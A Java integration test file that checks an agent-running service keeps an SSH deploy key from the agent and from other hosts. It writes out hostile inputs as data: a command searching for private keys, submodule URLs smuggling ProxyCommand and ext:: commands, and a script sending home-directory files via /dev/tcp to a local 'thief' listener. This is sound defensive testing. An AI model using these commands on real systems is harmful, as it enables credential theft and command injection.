package io.outpost.worker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.outpost.blackbox.Client;
import io.outpost.blackbox.Customer;
import io.outpost.local.EmbeddedAws;
import io.outpost.local.LocalOutpost;
import io.outpost.local.SharedOutpost;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.apache.sshd.common.config.keys.PublicKeyEntry;
import org.apache.sshd.server.SshServer;
import org.apache.sshd.server.command.AbstractCommandSupport;
import org.apache.sshd.server.config.keys.AuthorizedKeysAuthenticator;
import org.apache.sshd.server.keyprovider.SimpleGeneratorHostKeyProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.util.FileSystemUtils;

/**
 * Repositories by ssh with a real server: the key is accepted, the host key is checked, and neither
 * the agent nor another server gets the key.
 */
@Tag("product")
@ExtendWith(SharedOutpost.class)
class SshRepositoriesTest {

  private static LocalOutpost outpost;
  private static Path folder;
  private static Path place;
  private static SshServer server;
  private static SshServer other;
  private static final Queue<String> ASKED_OF_OTHER = new ConcurrentLinkedQueue<>();

  private Client client;

  @BeforeAll
  static void start(EmbeddedAws aws) throws Exception {
    folder = Files.createTempDirectory("ssh-of-a-test");
    var seed = Files.createDirectory(folder.resolve("seed"));
    GitServer.git(seed, "init", "-q", "-b", "trunk");
    Files.writeString(seed.resolve("a.txt"), "one\n");
    GitServer.git(seed, "add", ".");
    GitServer.git(seed, "commit", "-qm", "one");
    place = folder.resolve("shop.git");
    GitServer.git(folder, "clone", "-q", "--bare", seed.toString(), place.toString());
    run("ssh-keygen", "-q", "-t", "ecdsa", "-N", "", "-C", "", "-f", folder.resolve("id") + "");
    server = serve("host");
    other = serve("other");
    outpost =
        LocalOutpost.on(
            aws.endpoints(),
            "local",
            Map.of(
                "server.port",
                0,
                "outpost.env",
                "ssh",
                "OUTPOST_AGENT_CLAUDE_COMMAND",
                "[\"/bin/bash\",\"-s\"]"));
  }

  private static SshServer serve(String name) throws IOException {
    var made = SshServer.setUpDefaultServer();
    made.setHost("127.0.0.1");
    var keys = new SimpleGeneratorHostKeyProvider(folder.resolve(name));
    keys.setAlgorithm("EC");
    keys.setKeySize(256);
    made.setKeyPairProvider(keys);
    made.setPublickeyAuthenticator(new AuthorizedKeysAuthenticator(folder.resolve("id.pub")));
    made.setCommandFactory((channel, command) -> new Git(name, command));
    made.start();
    return made;
  }

  /** Runs git's command in a shell, as sshd does. */
  private static final class Git extends AbstractCommandSupport {
    private final String server;

    Git(String server, String command) {
      super(command, null);
      this.server = server;
    }

    @Override
    public void run() {
      if (server.equals("other")) {
        ASKED_OF_OTHER.add(getCommand());
      }
      try {
        var process = new ProcessBuilder("/bin/sh", "-c", getCommand()).start();
        Thread.startVirtualThread(() -> pump(getInputStream(), process.getOutputStream()));
        Thread.startVirtualThread(() -> pump(process.getErrorStream(), getErrorStream()));
        pump(process.getInputStream(), getOutputStream());
        onExit(process.waitFor());
      } catch (IOException | InterruptedException e) {
        onExit(1, e.toString());
      }
    }

    private static void pump(InputStream from, OutputStream to) {
      var some = new byte[8192];
      try {
        for (var read = from.read(some); read >= 0; read = from.read(some)) {
          to.write(some, 0, read);
          to.flush();
        }
        to.close();
      } catch (IOException e) {
        // One side has closed the connection.
      }
    }
  }

  @AfterAll
  static void stop() throws IOException {
    outpost.close();
    server.stop(true);
    other.stop(true);
    FileSystemUtils.deleteRecursively(folder);
  }

  private static void run(String... command) throws Exception {
    var process = new ProcessBuilder(command).inheritIO().start();
    assertThat(process.waitFor()).isZero();
  }

  private static String line(SshServer of) throws Exception {
    var key = of.getKeyPairProvider().loadKeys(null).iterator().next().getPublic();
    return "[127.0.0.1]:" + of.getPort() + " " + PublicKeyEntry.toString(key) + "\n";
  }

  private JsonNode run(String secret, String command, ObjectNode repository) {
    var admin = Client.of(outpost.address()).with(outpost.adminKey());
    var customer = Customer.of(admin, "pro");
    client = customer.client();
    var coded = Base64.getEncoder().encodeToString(secret.getBytes(StandardCharsets.UTF_8));
    var value = new ObjectMapper().createObjectNode().put("value", coded);
    client.put(customer.path("/secrets/DEPLOY_KEY"), value.toString());
    var body = new ObjectMapper().createObjectNode().put("agent", "claude").put("command", command);
    body.set("repository", repository.put("secret", "DEPLOY_KEY"));
    return client.ended(client.submit(body.toString()));
  }

  private static ObjectNode repository(Path of) {
    return new ObjectMapper()
        .createObjectNode()
        .put("url", "ssh://git@127.0.0.1:" + server.getPort() + of);
  }

  private String output(JsonNode job) {
    return client.get("/jobs/" + job.get("job_id").asText() + "/output").body();
  }

  private static String key() throws IOException {
    return Files.readString(folder.resolve("id"));
  }

  @Test
  void aRepositoryComesAndItsChangesGoByTheKeyThatTheAgentDoesNotGet() throws Exception {
    var wanted = repository(place);
    wanted.putObject("push").put("branch", "better");
    var job =
        run(
            key() + line(server),
            "cat a.txt; env; cat .git/config; find \"$HOME/..\" -type f 2>/dev/null | xargs grep -l"
                + " 'PRIVATE KEY' 2>/dev/null; echo two > a.txt",
            wanted);
    assertThat(job.get("status").asText()).as(job.toString()).isEqualTo("succeeded");
    assertThat(output(job))
        .startsWith("one\n")
        .doesNotContain("PRIVATE", "DEPLOY_KEY", "/tmp/git.", "known_hosts");
    assertThat(GitServer.git(place, "show", "better:a.txt")).isEqualTo("two");
  }

  @Test
  void aServerThatIsNotTheOneOfTheSecretIsNotTalkedTo() throws Exception {
    for (var secret : List.of(key() + line(other), key(), "no key at all\n" + line(server))) {
      var job = run(secret, "echo started", repository(place));
      assertThat(job.at("/error/code").asText()).as(job.toString()).isEqualTo("repository-failed");
      assertThat(job.toString()).doesNotContain("PRIVATE");
    }
  }

  /** Submodules may name other servers and programs. */
  @Test
  void submodulesComeFromTheServerOfTheRepositoryAlone() throws Exception {
    var ran = folder.resolve("ran");
    var number = 0;
    for (var url :
        List.of(
            "ssh://git@127.0.0.1:" + server.getPort() + place,
            "ssh://git@localhost:" + other.getPort() + place,
            "ssh://root@127.0.0.1:" + other.getPort() + place,
            "git@github.com:a/b.git",
            "ssh://-oProxyCommand=touch%20" + ran + "/x",
            "ext::sh -c touch% " + ran,
            place.toString())) {
      var seed = folder.resolve("seed" + ++number);
      GitServer.git(folder, "clone", "-q", place.toString(), seed.toString());
      Files.writeString(
          seed.resolve(".gitmodules"), "[submodule \"sub\"]\n\tpath = sub\n\turl = " + url + "\n");
      var commit = GitServer.git(place, "rev-parse", "trunk");
      GitServer.git(seed, "add", ".gitmodules");
      GitServer.git(seed, "update-index", "--add", "--cacheinfo", "160000," + commit + ",sub");
      GitServer.git(seed, "commit", "-qm", "sub");
      var bare = folder.resolve("hostile" + number + ".git");
      GitServer.git(folder, "clone", "-q", "--bare", seed.toString(), bare.toString());
      var job =
          run(
              key() + line(server) + line(other),
              "cat sub/a.txt",
              repository(bare).put("submodules", true));
      if (number == 1) {
        assertThat(output(job)).as(job.toString()).isEqualTo("one\n");
      } else {
        assertThat(job.at("/error/code").asText()).as(url).isEqualTo("repository-failed");
      }
    }
    assertThat(ASKED_OF_OTHER).isEmpty();
    assertThat(ran).doesNotExist();
  }

  /**
   * Git settings in the repository could run a program beside the key, here during the fetch of a
   * missing object.
   */
  @Test
  void aWorkspaceThatAnAgentHasPreparedGetsNoKey() throws Exception {
    var stolen = new ConcurrentLinkedQueue<String>();
    try (var thief = new ServerSocket(0, 9, InetAddress.getLoopbackAddress())) {
      Thread.startVirtualThread(() -> hear(thief, stolen));
      var prepare =
          """
          git init -q && git config core.repositoryformatversion 1
          git config extensions.partialClone origin && git config remote.origin.promisor true
          git config remote.origin.url ssh://x/y
          printf '#!/bin/bash\\ncat "$HOME"/* ../tmp/git.*/* >/dev/tcp/127.0.0.1/%d\\n' >thief
          chmod +x thief && git config core.sshCommand "$PWD/thief"
          printf '1%%.0s' {1..40} > .git/HEAD
          git rev-parse --verify 'HEAD^{commit}'
          """
              .formatted(thief.getLocalPort());
      var mapper = new ObjectMapper();
      var first = mapper.createObjectNode().put("agent", "claude").put("command", prepare);
      var job = run(key() + line(server), "echo", repository(place));
      assertThat(job.get("status").asText()).as(job.toString()).isEqualTo("succeeded");
      client.ended(client.submit(first.put("workspace", "w").toString()));
      // Without the key the program does run, so the attack of this test works.
      await().until(() -> !stolen.isEmpty());
      var second = mapper.createObjectNode().put("agent", "claude").put("command", "echo");
      second.put("workspace", "w").set("repository", repository(place).put("secret", "DEPLOY_KEY"));
      assertThat(client.ended(client.submit(second.toString())).at("/error/code").asText())
          .isEqualTo("repository-failed");
      assertThat(stolen).noneMatch(text -> text.contains("PRIVATE"));
    }
  }

  private static void hear(ServerSocket thief, Queue<String> stolen) {
    while (!thief.isClosed()) {
      try (var from = thief.accept()) {
        stolen.add(
            "heard " + new String(from.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
      } catch (IOException e) {
        // The connection is closed.
      }
    }
  }

  @Test
  void whatSshCannotIsRefusedAtOnce() {
    var admin = Client.of(outpost.address()).with(outpost.adminKey());
    var anybody = Customer.of(admin, "pro").client();
    var open = "{\"agent\":\"claude\",\"command\":\"x\",\"repository\":{%s}}";
    var url = "\"url\":\"git@github.com:a/b.git\"";
    assertThat(field(anybody.post("/jobs", open.formatted(url)))).isEqualTo("repository.secret");
    var secret = url + ",\"secret\":\"K\"";
    assertThat(field(anybody.post("/jobs", open.formatted(secret + ",\"lfs\":true"))))
        .isEqualTo("repository.lfs");
    var push = ",\"push\":{\"branch\":\"b\",\"pull_request\":true}";
    assertThat(field(anybody.post("/jobs", open.formatted(secret + push))))
        .isEqualTo("repository.push.pull_request");
  }

  /** A dead letter that was accepted while ssh was allowed is not redriven, either. */
  @Test
  void whereNoSshLeavesTheNetworkAJobThatNeedsItIsRefused() throws Exception {
    var earlier = run(key() + line(server), "echo", repository(place));
    var job = "{\"agent\":\"claude\",\"command\":\"x\",\"repository\":{\"url\":\"%s\"%s}}";
    var settings =
        Map.<String, Object>of(
            "server.port",
            0,
            "outpost.env",
            "ssh",
            "outpost.repositories.allow-loopback",
            true,
            "outpost.repositories.ssh",
            false);
    try (var closed = LocalOutpost.on(outpost.aws(), "api", settings)) {
      var tenant = Client.of(closed.address()).with(client.key());
      for (var url : List.of("git@github.com:a/b.git", "ssh://git@ssh.github.com:443/a/b")) {
        for (var more : List.of("", ",\"secret\":\"DEPLOY_KEY\"")) {
          var refused = tenant.post("/jobs", job.formatted(url, more));
          assertThat(field(refused)).isEqualTo("repository.url");
          assertThat(refused.body()).contains("https address");
        }
      }
      var rerun = "/jobs/" + earlier.get("job_id").asText() + "/rerun";
      var again = tenant.json("POST", rerun, null);
      assertThat(field(again)).isEqualTo("repository.url");
      assertThat(again.body()).contains("https address");
      assertThat(tenant.post("/jobs", job.formatted("https://127.0.0.1:1/a", "")).status())
          .isEqualTo(202);
    }
  }

  private static String field(Client.Answer answer) {
    assertThat(answer.status()).as(answer.body()).isEqualTo(400);
    return answer.json().at("/errors/0/field").asText();
  }
}
